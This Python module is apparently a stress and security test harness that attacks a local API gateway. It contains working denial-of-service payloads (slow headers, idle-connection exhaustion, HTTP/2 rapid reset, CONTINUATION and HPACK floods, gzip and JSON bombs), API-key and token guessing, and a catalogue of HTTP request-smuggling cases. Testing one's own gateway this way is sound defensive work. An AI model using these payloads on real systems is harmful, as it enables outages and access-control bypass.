"""Attacks on a front door at an address of this machine, each in one process and with limited connections and time.

Each attack is a function of an `AttackTarget` and the end time (`time.monotonic`), and returns counts of what happened.
Requests are written as bytes, since HTTP libraries refuse to send them.
"""

import json
import os
import selectors
import socket
import ssl
import sys
import time
from base64 import urlsafe_b64encode
from collections import Counter
from collections.abc import Callable, Generator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from threading import Thread

from http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    frame,
    header_field,
    prefixed_integer,
)

PATH, _LIST = "/v1/completions", "/v1/models"
_LIMIT_S = 10
_MIB = 1024 * 1024
_ALLOWED, _TOO_LONG = str(31 * _MIB), str(40 * _MIB)
_WHOLE, _CHUNKED = f"content-length: {_ALLOWED}", "transfer-encoding: chunked"
_INVALID_KEY = "sk-" + "0" * 40

Counts = Counter[str]


@dataclass(frozen=True)
class AttackTarget:
    """Front door under attack.

    Attributes:
        address: IP address.
        port: TCP port.
        host: host name of its certificate.
        chain: certificate chain in PEM, which clients trust.
        key: API key (or token) of the first client.
        other_key: API key (or token) of the second client.
        model: name of a served model.
    """

    address: str
    port: int
    host: str
    chain: str
    key: str
    other_key: str
    model: str

    def connect(self, *, alpn: str = "http/1.1", source: int = 0) -> ssl.SSLSocket:
        """Return a new TLS connection to the front door, from source address 127.0.0.SOURCE if `source` is given."""
        context = ssl.create_default_context(cadata=self.chain)
        context.set_alpn_protocols([alpn])
        return context.wrap_socket(self.plain(source), server_hostname=self.host)

    def plain(self, source: int = 0) -> socket.socket:
        """Return a new TCP connection to the front door, without TLS handshake."""
        found = (f"127.0.0.{source}", 0) if source else None
        return socket.create_connection((self.address, self.port), timeout=_LIMIT_S, source_address=found)

    def head(self, *headers: str, key: str | None = None, path: str = PATH, method: str = "POST") -> bytes:
        """Return the head of an HTTP request to the front door with the API key `key`, by default the first
        client's.
        """
        lines = [
            f"{method} {path} HTTP/1.1",
            f"host: {self.host}",
            f"authorization: Bearer {key or self.key}",
            "content-type: application/json",
            *headers,
            "",
            "",
        ]
        return "\r\n".join(lines).encode()


Attack = Callable[[AttackTarget, float], Counts]


@contextmanager
def _closing(sockets: list[socket.socket]) -> Generator[None]:
    try:
        yield
    finally:
        for one in sockets:
            with suppress(OSError):
                one.close()


def _status(answer: bytes) -> str:
    return answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/1.1 ") else "closed" if not answer else "other"


def _answer(one: socket.socket, wait_s: float = 0.0) -> str | None:
    """Return the status of the response, `closed` if the connection ended, None if no response came within `wait_s`
    seconds.
    """
    one.settimeout(max(wait_s, 0.001))
    try:
        return _status(one.recv(65536))
    except (TimeoutError, ssl.SSLWantReadError):
        return None
    except OSError:
        return "closed"


def _sent(one: socket.socket, data: bytes) -> bool:
    """Send data, and return whether the server accepted all of it within 1.5 seconds."""
    one.settimeout(1.5)
    try:
        one.sendall(data)
    except OSError:
        return False
    return True


def _bodies(target: AttackTarget, end_s: float, head: bytes, number: int = 200) -> Counts:
    """Send requests whose bodies of 31 MiB stop before the last MiB, on up to `number` open connections."""
    seen, held = Counts(), list[socket.socket]()
    piece = b"x" * _MIB
    framed = b"%x\r\n%s\r\n" % (len(piece), piece) if b"chunked" in head else piece
    with _closing(held):
        while time.monotonic() < end_s:
            if len(held) >= number:
                time.sleep(0.2)
                seen.update(answer for one in held if (answer := _answer(one)))
                held = [one for one in held if one.fileno() >= 0]
                continue
            try:
                one = target.connect()
            except OSError:
                seen["no connection"] += 1
                continue
            held.append(one)
            seen["requests"] += 1
            taken = _sent(one, head) and all(time.monotonic() < end_s and _sent(one, framed) for _ in range(30))
            seen["whole but for the last MiB"] += taken
            if answer := _answer(one, 0.05):
                seen[answer] += 1
                held.remove(one)
                one.close()
    return seen


def reservations_of_two_clients(target: AttackTarget, end_s: float) -> Counts:
    """Send forty chunked requests of one byte for each of two clients of the front door every second, and close their
    connections immediately.
    """
    seen = Counts()
    while time.monotonic() < end_s:
        for key in (target.key, target.other_key):
            for _ in range(40):
                with suppress(OSError), target.connect() as one:
                    seen["requests"] += _sent(one, target.head(_CHUNKED, key=key) + b"1\r\nx\r\n")
                    if answer := _answer(one, 0.01):
                        seen[answer] += 1
        time.sleep(1)
    return seen


def long_names(target: AttackTarget, end_s: float) -> Counts:
    """Send JSON bodies with keys of 30 MiB, which the front door refuses, on eight connections, and read the
    answers.
    """
    seen = Counts()
    body = b'{"kv_' + b"x" * (30 * _MIB) + b'":1}'
    head = target.head(f"content-length: {len(body)}", "connection: close")

    def ask() -> None:
        while time.monotonic() < end_s:
            with suppress(OSError), target.connect() as one:
                _sent(one, head)
                _sent(one, body)
                one.settimeout(_LIMIT_S)
                answer = one.recv(65536)
                seen[_status(answer)] += 1
                while more := one.recv(65536):
                    seen["MiB answered"] += len(more) // _MIB

    threads = [Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return seen


def unanswered_bodies(target: AttackTarget, end_s: float) -> Counts:
    """Send complete requests of 31 MiB that the server behind the front door doesn't answer."""
    seen, held = Counts(), list[socket.socket]()
    body = json.dumps({"model": target.model, "prompt": "wait", "suffix": "x" * (31 * _MIB)}).encode()
    with _closing(held):
        while time.monotonic() < end_s:
            with suppress(OSError):
                held.append(target.connect())
                seen["requests"] += _sent(held[-1], target.head(f"content-length: {len(body)}") + body)
                if (answer := _answer(held[-1], 0.05)) is not None:
                    seen[answer] += 1
                    held.pop().close()
    return seen


def slow_headers(target: AttackTarget, end_s: float) -> Counts:
    """Send one byte of a request's head per second on each of two thousand connections."""
    seen, held = Counts(), list[socket.socket]()
    with _closing(held):
        while time.monotonic() < end_s:
            started_s = time.monotonic()
            with suppress(OSError):
                while len(held) < 2000 and time.monotonic() < min(end_s, started_s + 1):
                    one = target.connect()
                    one.sendall(b"POST / HTTP/1.1\r\nhost: a\r\nx-slow: ")
                    held.append(one)
                    seen["connections"] += 1
            for one in list(held):
                if not _sent(one, b"x") or _answer(one) is not None:
                    seen["ended"] += 1
                    held.remove(one)
                    one.close()
            time.sleep(max(0.0, started_s + 1 - time.monotonic()))
        seen["open at the end"] = len(held)
    return seen


def _idle(target: AttackTarget, end_s: float, number: int, *, encrypted: bool) -> Counts:
    seen, held = Counts(), list[socket.socket]()
    with _closing(held):
        while time.monotonic() < end_s:
            if len(held) >= number:
                time.sleep(0.2)
                continue
            try:
                source = 2 + len(held) % 4
                held.append(target.connect(source=source) if encrypted else target.plain(source))
                seen["connections"] += 1
            except OSError as error:
                seen[f"refused: {type(error).__name__}"] += 1
                time.sleep(0.01)
        with selectors.DefaultSelector() as selector:
            for one in held:
                selector.register(one, selectors.EVENT_READ)
            ended = len(selector.select(0))
        seen["open at the end"] = len(held) - ended
    return seen


def _guessed(target: AttackTarget, end_s: float, guess: Callable[[], str]) -> Counts:
    seen, held = Counts(), list[socket.socket]()
    with _closing(held):
        while time.monotonic() < end_s:
            with suppress(OSError):
                while len(held) < 10:
                    held.append(target.connect())
            for one in list(held):
                _sent(one, target.head("content-length: 0", key=guess()))
            for one in list(held):
                answer = _answer(one, 1) or "no answer"
                seen[answer] += 1
                if answer in {"closed", "no answer"}:
                    held.remove(one)
                    one.close()
    return seen


def guessed_tokens(target: AttackTarget, end_s: float) -> Counts:
    """Send requests with tokens that have a valid token's claims and random signatures, on ten connections."""
    said = target.key.rpartition(".")[0]
    return _guessed(target, end_s, lambda: f"{said}.{urlsafe_b64encode(os.urandom(64)).decode().rstrip('=')}")


def _block(target: AttackTarget, *more: tuple[str, str], method: str = "POST", path: str = PATH) -> bytes:
    fields = [
        (":method", method),
        (":scheme", "https"),
        (":path", path),
        (":authority", target.host),
        ("authorization", f"Bearer {target.key}"),
        ("content-type", "application/json"),
        *more,
    ]
    return b"".join(header_field(name, value) for name, value in fields)


def _http2(target: AttackTarget, end_s: float, flood: Callable[[AttackTarget, ssl.SSLSocket, float], int]) -> Counts:
    """Open HTTP/2 connections one after the other, and call `flood` on each until it ends."""
    seen = Counts()
    while time.monotonic() < end_s:
        try:
            with target.connect(alpn="h2") as one:
                seen["connections"] += 1
                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
                one.settimeout(1.5)
                with suppress(OSError):
                    seen["frames"] += flood(target, one, end_s)
        except OSError:
            seen["no connection"] += 1
            time.sleep(0.01)
    return seen


def _counted(one: ssl.SSLSocket, end_s: float, frames: Callable[[int], bytes], each: int = 1) -> int:
    number = 0
    with suppress(OSError):
        while time.monotonic() < end_s:
            one.sendall(frames(number))
            number += each
            one.settimeout(0.0001)
            with suppress(TimeoutError, ssl.SSLWantReadError):
                if not one.recv(65536):
                    break
            one.settimeout(1.5)
    return number


def rapid_resets(target: AttackTarget, end_s: float) -> Counts:
    """Reset HTTP/2 streams immediately after opening them (CVE-2023-44487)."""

    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        block = _block(target)

        def pairs(number: int) -> bytes:
            streams = range(2 * number + 1, 2 * number + 101, 2)
            reset = (8).to_bytes(4, "big")
            return b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, reset) for stream in streams
            )

        return _counted(one, end_s, pairs, 50)

    return _http2(target, end_s, flood)


def continuations(target: AttackTarget, end_s: float) -> Counts:
    """Send HTTP/2 headers that never end (CVE-2024-30255)."""

    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        one.sendall(frame(HEADERS, 0, 1, _block(target)))
        piece = frame(CONTINUATION, 0, 1, b"".join(header_field(f"x-{i}", "y" * 100) for i in range(100)))
        return _counted(one, end_s, lambda _: piece)

    return _http2(target, end_s, flood)


def header_bombs(target: AttackTarget, end_s: float) -> Counts:
    """Send HTTP/2 headers that index one large field and refer to it four thousand times (similar to CVE-2016-6581)."""

    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        kept = b"\x40" + prefixed_integer(1) + b"x" + prefixed_integer(3800) + b"y" * 3800
        block = _block(target) + kept + b"\xbe" * 4000

        return _counted(one, end_s, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))

    return _http2(target, end_s, flood)


def pings(target: AttackTarget, end_s: float) -> Counts:
    """Send HTTP/2 PING and SETTINGS frames without reading the answers (CVE-2019-9512, CVE-2019-9515)."""

    def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        frames = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, b"")) * 500
        number = 0
        with suppress(OSError):
            while time.monotonic() < end_s:
                one.sendall(frames)
                number += 1000
        return number

    return _http2(target, end_s, flood)


def empty_frames(target: AttackTarget, end_s: float) -> Counts:
    """Send HTTP/2 DATA frames without data (CVE-2019-9518)."""

    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        one.sendall(frame(HEADERS, END_HEADERS, 1, _block(target)))
        return _counted(one, end_s, lambda _: frame(DATA, 0, 1, b"") * 100, 100)

    return _http2(target, end_s, flood)


def _streams(target: AttackTarget, end_s: float, block: bytes) -> Counts:
    def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        streams = range(1, 201, 2)
        for stream in streams:
            one.sendall(frame(HEADERS, END_HEADERS, stream, block))
        sent = 0
        with suppress(OSError):
            while time.monotonic() < end_s:
                for stream in streams:
                    one.sendall(frame(DATA, 0, stream, b"x" * 600))
                    sent += 1
                one.settimeout(0.001)
                with suppress(TimeoutError, ssl.SSLWantReadError):
                    if not one.recv(65536):
                        break
                one.settimeout(1.5)
        return sent

    return _http2(target, end_s, flood)


def unread_answers(target: AttackTarget, end_s: float) -> Counts:
    """Request answers of 16 MiB on two hundred connections without reading them."""
    seen, held = Counts(), list[socket.socket]()
    body = json.dumps({"model": target.model, "prompt": "large"}).encode()
    with _closing(held):
        while time.monotonic() < end_s:
            if len(held) >= 200:
                time.sleep(0.2)
                continue
            with suppress(OSError):
                one = target.connect()
                held.append(one)
                seen["requests"] += _sent(one, target.head(f"content-length: {len(body)}") + body)
    return seen


def _posted(target: AttackTarget, end_s: float, body: bytes, *headers: str) -> Counts:
    seen = Counts()
    while time.monotonic() < end_s:
        with suppress(OSError), target.connect() as one:
            seen["requests"] += 1
            _sent(one, target.head(f"content-length: {len(body)}", *headers) + body)
            seen[_answer(one, 10) or "no answer"] += 1
    return seen


def compressed_bombs(target: AttackTarget, end_s: float) -> Counts:
    """Send bodies of 30 MiB, compressed by gzip, that would expand to about 30 GiB."""
    import gzip  # noqa: PLC0415 - of this one alone

    packed = gzip.compress(bytes(64 * _MIB), 9)
    whole = packed * (30 * _MIB // len(packed))
    return _posted(target, end_s, whole, "content-encoding: gzip")


def nested_bodies(target: AttackTarget, end_s: float) -> Counts:
    """Send JSON bodies with fifteen million nested arrays."""
    depth = 15 * _MIB
    return _posted(target, end_s, b'{"a":' + b"[" * depth + b"]" * depth + b',"model":"x"}')


def wide_bodies(target: AttackTarget, end_s: float) -> Counts:
    """Send JSON bodies with two million keys."""
    keys = b",".join(b'"k%d":{}' % i for i in range(2_000_000))
    return _posted(target, end_s, b"{" + keys + b',"model":"x"}')


def smuggled(target: AttackTarget, end_s: float) -> Counts:
    """Send requests with ambiguous ends (request smuggling, RFC 9112, sections 6.3 and 11.2)."""
    seen = Counts()
    cases = smuggling_cases(target)
    while time.monotonic() < end_s:
        for name, sent in cases.items():
            with suppress(OSError), target.connect() as one:
                _sent(one, sent)
                seen[f"{name}: {_answer(one, 0.3) or 'no answer'}"] += 1
    return seen


def smuggling_cases(target: AttackTarget) -> dict[str, bytes]:
    """Return ambiguous HTTP requests by name, each followed by a request for `/smuggled` that only a misled parser
    would see.
    """
    hidden = target.head("content-length: 0", path="/smuggled")
    inner = json.dumps({"model": target.model, "prompt": "x"}).encode()
    size = len(inner)
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (size, inner)

    def head(*headers: str) -> bytes:
        return target.head(*headers)

    return {
        "CL.TE": head(f"content-length: {len(chunk) + len(hidden)}", "transfer-encoding: chunked") + chunk + hidden,
        "TE.CL": head("transfer-encoding: chunked", "content-length: 4") + chunk + hidden,
        "TE.TE": head("transfer-encoding: chunked", "transfer-encoding: identity") + chunk + hidden,
        "TE with a tab": head("transfer-encoding:\tchunked", "content-length: 4") + chunk + hidden,
        "TE in another spelling": head("transfer-encoding: xchunked", f"content-length: {size}") + inner + hidden,
        "TE before a blank": head("transfer-encoding : chunked", f"content-length: {size}") + inner + hidden,
        "two lengths": head(f"content-length: {size}", f"content-length: {size + len(hidden)}") + inner + hidden,
        "lengths in a list": head(f"content-length: {size}, {size + len(hidden)}") + inner + hidden,
        "a length with a sign": head(f"content-length: +{size}") + inner + hidden,
        "a chunk's size with a sign": head("transfer-encoding: chunked") + b"+" + chunk + hidden,
        "a chunk's size that overflows": head("transfer-encoding: chunked")
        + b"1%016x\r\n%s\r\n0\r\n\r\n" % (size, inner)
        + hidden,
        "a chunk without CR": head("transfer-encoding: chunked") + chunk.replace(b"\r\n", b"\n") + hidden,
        "a folded header": head("x-a: b\r\n transfer-encoding: chunked", f"content-length: {size}") + inner + hidden,
        "a bare CR": head(f"x-a: b\rcontent-length: {size + len(hidden)}", f"content-length: {size}") + inner + hidden,
        "a zero byte": head("x-a: b\x00c: d", f"content-length: {size}") + inner + hidden,
        "HTTP/1.0 chunked": head("transfer-encoding: chunked").replace(b"HTTP/1.1", b"HTTP/1.0", 1) + chunk + hidden,
    }


def smuggled_http2(target: AttackTarget, end_s: float) -> Counts:
    """Send HTTP/2 headers that would make another request when translated to HTTP/1."""
    cases: Sequence[tuple[str, str]] = (
        ("x-a", "b\r\ntransfer-encoding: chunked"),
        ("transfer-encoding", "chunked"),
        ("x-a: b\r\nx-c", "d"),
        ("content-length", "0"),
        ("connection", "transfer-encoding"),
        ("Host", "other"),
    )

    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
        body = b"0\r\n\r\n" + target.head("content-length: 0", path="/smuggled")
        sent = 0
        for i, case in enumerate(cases):
            one.sendall(frame(HEADERS, END_HEADERS, 2 * i + 1, _block(target, case)))
            one.sendall(frame(DATA, END_STREAM, 2 * i + 1, body))
            sent += 1
            if not one.recv(65536) or time.monotonic() > end_s:
                break
        return sent

    return _http2(target, end_s, flood)


ATTACKS: Mapping[str, Attack] = {
    "unfinished_bodies": lambda door, end_s: _bodies(door, end_s, door.head(_WHOLE)),
    "unfinished_chunked_bodies": lambda door, end_s: _bodies(door, end_s, door.head(_CHUNKED)),
    "unfinished_gets": lambda door, end_s: _bodies(door, end_s, door.head(_CHUNKED, path=_LIST, method="GET")),
    "longer_than_allowed": lambda door, end_s: _bodies(door, end_s, door.head(f"content-length: {_TOO_LONG}")),
    "unfinished_bodies_of_strangers": lambda door, end_s: _bodies(door, end_s, door.head(_WHOLE, key=_INVALID_KEY)),
    "reservations_of_two_clients": reservations_of_two_clients,
    "unanswered_bodies": unanswered_bodies,
    "slow_headers": slow_headers,
    "idle_connections": lambda door, end_s: _idle(door, end_s, 18000, encrypted=False),
    "idle_encrypted_connections": lambda door, end_s: _idle(door, end_s, 18000, encrypted=True),
    "guessed_keys": lambda door, end_s: _guessed(door, end_s, lambda: f"sk-{os.urandom(24).hex()}"),
    "guessed_tokens": guessed_tokens,
    "rapid_resets": rapid_resets,
    "continuations": continuations,
    "header_bombs": header_bombs,
    "pings": pings,
    "empty_frames": empty_frames,
    "many_streams": lambda door, end_s: _streams(door, end_s, _block(door, ("content-length", _ALLOWED))),
    "many_get_streams": lambda door, end_s: _streams(door, end_s, _block(door, method="GET", path=_LIST)),
    "many_longer_streams": lambda door, end_s: _streams(door, end_s, _block(door, ("content-length", _TOO_LONG))),
    "unread_answers": unread_answers,
    "compressed_bombs": compressed_bombs,
    "nested_bodies": nested_bodies,
    "wide_bodies": wide_bodies,
    "long_names": long_names,
    "smuggled": smuggled,
    "smuggled_http2": smuggled_http2,
}
"""Attacks by name; the functions that are written in a row of this table:

- `unfinished_…`: send bodies of 31 MiB that never end, chunked, in GET requests (which have no body), or with an
  invalid API key.
- `longer_than_allowed`: send bodies that never end, with a Content-Length above the limit.
- `idle_…`: open eighteen thousand TCP connections that send nothing, before or after the TLS handshake.
- `guessed_keys`: send requests with random API keys on ten connections.
- `many_…`: open the maximum number of HTTP/2 streams, each with a body that never ends; in GET requests the body has no
  length, and that of `many_longer_streams` is above the limit.
"""

OF_TOKENS = ("guessed_tokens",)
"""Names of the attacks that need a front door whose clients authenticate with tokens; `AttackTarget` then has tokens in
place of API keys.
"""


def main() -> None:
    """Run one attack on a front door; the arguments are its name, the target as JSON, and its duration in seconds.
    Print the counts as JSON.
    """
    name, target, seconds = sys.argv[1:]
    print(json.dumps(ATTACKS[name](AttackTarget(**json.loads(target)), time.monotonic() + float(seconds))))


if __name__ == "__main__":
    main()
